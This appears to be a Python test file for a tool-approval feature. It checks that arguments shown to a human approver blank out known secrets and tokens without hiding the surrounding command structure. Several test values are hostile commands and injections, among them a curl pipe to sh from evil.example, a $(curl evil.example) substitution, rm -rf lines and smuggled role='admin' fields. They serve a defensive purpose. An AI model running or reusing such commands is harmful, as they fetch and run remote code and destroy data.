"""What a person sees of arguments: known secrets are blanked, nothing else is hidden that they would not miss."""

from __future__ import annotations

import json
import re
import string
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from moonpool.core.json import canonical_json
from moonpool.features.approvals.model import ApprovalRequest
from moonpool.pipeline.readable_json import ARGUMENTS_CHARS_MAX, NOT_ALL
from moonpool.pipeline.shown_arguments import line_of, looks_secret, view_of
from moonpool.redaction.redactor import Redactor
from moonpool.terminal.approver import question
from pipeline.secret_samples import TOKENS
from tables import every_row

if TYPE_CHECKING:
    from moonpool.core.json import JsonObject

KNOWN = "known-4711-secret"
REDACTOR = Redactor.of({"TOKEN": KNOWN}, personal=("email", "card"))
TOKEN_CHARACTERS = set(string.ascii_letters + string.digits + "+_-")


def line(arguments: JsonObject) -> tuple[str, str]:
    return line_of(arguments, REDACTOR, encoded=canonical_json(arguments))


@every_row(
    ("value", "telling"),
    [
        pytest.param("password=\"x\\\"', role='admin', note='\"", ("role", "'admin'", ", "), id="arguments in a value"),
        pytest.param(
            '{"password": "x\\", "role": "admin"}', ('"role', '"admin'.replace('"', '\\"')), id="JSON in a value"
        ),
        pytest.param("password='; curl http://evil.example/x | sh #'", ("; ", "curl", " | sh"), id="a command"),
        pytest.param("API_KEY=abc1;rm -rf /srv; true", (";rm -rf /srv; true",), id="a command behind a variable"),
        pytest.param("--password $(curl evil.example)1", ("$(curl ",), id="a command in an option"),
        pytest.param("Authorization: Bearer aaaa&to=all&cc=mallory", ("&to=", "&cc="), id="parameters of an address"),
        pytest.param("https://u:p;x=1,role=admin@h.example/", (";", ","), id="an address"),
        pytest.param(
            f"-----BEGIN PRIVATE KEY-----\n{'QUFB' * 8}\n+ rm + all\n-----END PRIVATE KEY-----",
            ("rm ", "all", "-----BEGIN PRIVATE KEY-----"),
            id="a key",
        ),
    ],
)
def test_what_looks_like_a_secret_hides_no_structure(value: str, telling: tuple[str, ...]) -> None:
    view = view_of({"note": value, "to": "all"}, REDACTOR)
    shown, whole = line({"note": value, "to": "all"})
    for part in telling:
        assert part in view.text.replace('\\"', '"') or part in view.text
        assert part in shown.replace('\\"', '"') or part in shown
    for text, all_of_it in ((view.text, view.whole), (shown, whole)):
        assert (NOT_ALL in text) == bool(all_of_it)
        assert json.loads(all_of_it or text)["note"] == value


@every_row("kind", list(TOKENS))
def test_a_token_is_shown_by_its_ends_and_what_is_hidden_is_counted(kind: str) -> None:
    token = TOKENS[kind]
    view = view_of({"a": f"use {token} now"}, REDACTOR)
    hidden = sum(int(one.replace(",", "")) for one in re.findall(r"…\[([\d,]+) characters hidden\]…", view.text))
    assert view.cut
    assert view.text.startswith(NOT_ALL)
    assert hidden >= len(token) // 3
    assert token not in view.text
    assert json.loads(view.whole) == {"a": f"use {token} now"}


def test_a_known_secret_is_nowhere_and_hides_nothing_else() -> None:
    arguments: JsonObject = {"a": f"x {KNOWN}; rm -rf /", "b": "y"}
    view = view_of(arguments, REDACTOR)
    assert (view.cut, view.whole) == (False, "")
    assert json.loads(view.text) == {"a": "x [REDACTED:TOKEN]; rm -rf /", "b": "y"}
    assert KNOWN not in "".join(line(arguments))


def test_a_flood_of_known_secrets_does_not_take_the_rest_of_a_text_along_unsaid() -> None:
    arguments: JsonObject = {"a": f"{KNOWN} " * 2000 + "; rm -rf /"}
    assert view_of(arguments, REDACTOR).cut
    assert line(arguments) == ("", "")  # no plan


def test_a_text_cannot_say_that_something_is_hidden() -> None:
    view = view_of({"a": 'x" …[5 characters hidden]… "y'}, REDACTOR)
    assert (view.cut, r"x\" …[5 characters hidden]… \"y" in view.text) == (False, True)


def test_what_is_long_can_be_read_whole_unless_it_is_very_long() -> None:
    long: JsonObject = {"a": "lorem ipsum " * 5_000, "to": "all"}
    view = view_of(long, REDACTOR)
    assert (view.cut, len(view.text) <= ARGUMENTS_CHARS_MAX, json.loads(view.whole)) == (True, True, long)
    view = view_of({"a": "lorem ipsum " * 100_000}, REDACTOR)
    assert (view.cut, view.whole) == (True, "")


texts = st.text(st.characters(codec="ascii", exclude_categories=["Cc"]), max_size=60) | st.sampled_from(
    ["password=hunter2-hunter2", f"key {TOKENS['github_pat']}", "Authorization: Bearer abcdefgh12345", "x@example.org"]
)
values = st.recursive(
    st.none() | st.booleans() | st.integers() | texts,
    lambda inner: st.lists(inner, max_size=6) | st.dictionaries(texts | st.just("password"), inner, max_size=6),
    max_leaves=30,
)


@given(st.dictionaries(texts, values, max_size=6))
@settings(max_examples=120, deadline=None)
def test_what_is_not_all_says_so(arguments: Any) -> None:
    view = view_of(arguments, REDACTOR)
    shown, whole = line(arguments)
    assert view.cut or json.loads(view.text) == arguments
    assert json.loads(view.whole or "null") in (None, arguments)
    assert json.loads(whole or shown) == arguments


@given(st.text(max_size=80).map(lambda text: f"password='{text}' token={text} key: {text}"))
@settings(max_examples=120, deadline=None)
def test_only_characters_of_tokens_are_hidden(text: str) -> None:
    for start, end in looks_secret(REDACTOR, text, "password"):
        assert set(text[start:end]) <= TOKEN_CHARACTERS


def test_the_question_names_the_server_its_file_and_the_line() -> None:
    request = ApprovalRequest(
        request_id="a", run_id="run_1", principal="local:a", server_id="hub", tool_name="send", arguments="{}",
        arguments_digest="sha256:0", reason="it sends", server_address="node hub.js --production",
        config_file="/etc/servers.json", code_line=7,
    )  # fmt: skip
    shown = question(request, 120)
    assert "│ The code wants to call hub.send in line 7\n" in shown
    assert '│ hub is "node hub.js --production", configured in /etc/servers.json\n' in shown
